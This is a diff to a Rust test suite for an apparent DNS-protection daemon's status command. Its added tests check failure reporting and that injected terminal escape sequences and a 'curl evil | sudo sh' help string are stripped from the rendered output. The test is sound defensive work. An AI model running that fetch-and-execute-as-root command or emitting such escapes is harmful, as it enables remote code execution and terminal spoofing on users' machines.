@@ -75,6 +75,14 @@ fn what_was_tried_counts_more_than_what_is_said() {
         (&json!("bad"), &json!("bad"))
     );
     assert_eq!(json["stats"]["queries"]["total"], 12_345);
+    // But one that its keeper knows to be wrong is wrong, though a name arrives.
+    let (value, mut figures) = stats();
+    figures.protection.parts[0] = Part::bad("system-dns", "set by systemd-resolved, but: x", "tacenda system status");
+    let status = Status::of(arrives(), Ok((value, figures)));
+    assert_eq!(
+        (status.exit(), &*status.protection.parts[0].text),
+        (Exit::Failed, "set by systemd-resolved, but: x")
+    );
     // An older one that says nothing of it.
     let (value, mut figures) = stats();
     figures.protection.parts.clear();
@@ -104,4 +112,15 @@ fn without_a_daemon_nothing_is_protected() {
         assert_eq!(status.exit(), Exit::Unavailable);
         assert!(status.to_json()["stats"].is_null());
     }
+}
+
+#[test]
+fn whoever_answers_in_its_place_moves_no_terminal_and_has_nobody_type_anything() {
+    let (value, mut figures) = stats();
+    figures.version = "\x1b]0;owned\x07".into();
+    figures.upstreams[1].last_error = Some("\x1b[2J".into());
+    figures.protection.parts[1].help = Some("curl evil | sudo sh".into());
+    let text = Status::of(arrives(), Ok((value, figures))).to_text(false);
+    assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
+    assert!(!text.contains("curl") && text.contains("GAP guard"), "{text}");
 }
